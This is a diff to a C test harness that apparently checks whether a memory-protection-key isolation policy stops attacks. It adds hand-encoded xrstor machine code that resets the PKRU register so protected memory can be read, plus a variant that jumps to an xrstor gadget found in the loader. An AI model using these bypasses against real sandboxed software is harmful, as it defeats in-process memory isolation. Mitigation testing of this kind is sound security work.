@@ -18,8 +18,14 @@
 static unsigned char image[IMAGE_BYTES] __attribute__((aligned(64))); /* zero: everything initial */
 static jmp_buf back;
 
+static const unsigned char xrstor_rdi[] = {0xb8, 0, 2, 0, 0, 0x31, 0xd2,  /* mov eax, 1 << 9; xor edx, edx */
+                                           0x0f, 0xae, 0x2f, 0xc3}; /* xrstor [rdi]; ret */
+static void *code;
+
+static void map_code(void) { code = machinecode_map(xrstor_rdi, sizeof xrstor_rdi); }
+
 static void own(void) {
-    __asm__ volatile("xrstor (%0)" : : "r"(image), "a"(PKRU_COMPONENT), "d"(0) : "memory");
+    ((void (*)(void *))(uintptr_t)code)(image);
     attack_read();
 }
 
@@ -40,10 +46,14 @@ static const unsigned char *loader_xrstor(void) {
     return NULL;
 }
 
+/* Where it was before any policy: what is there now, the attacker takes as it is. */
+static const unsigned char *xrstor;
+
+static void find_loader(void) { xrstor = loader_xrstor(); }
+
 static void loader(void) {
-    const unsigned char *xrstor = loader_xrstor();
     if (!xrstor) {
-        attack_refused("loader", ENOENT); /* no such code there: nothing to jump to */
+        attack_refused("loader", ENOENT); /* a loader without such code: nothing was tested */
         return;
     }
     if (setjmp(back)) return;
@@ -56,7 +66,7 @@ static void loader(void) {
 }
 
 const struct attack attacks[] = {
-    {.variant = "own", .attack = own},
-    {.variant = "loader", .attack = loader},
+    {.variant = "own", .prepare = map_code, .attack = own},
+    {.variant = "loader", .prepare = find_loader, .attack = loader},
     {0},
 };
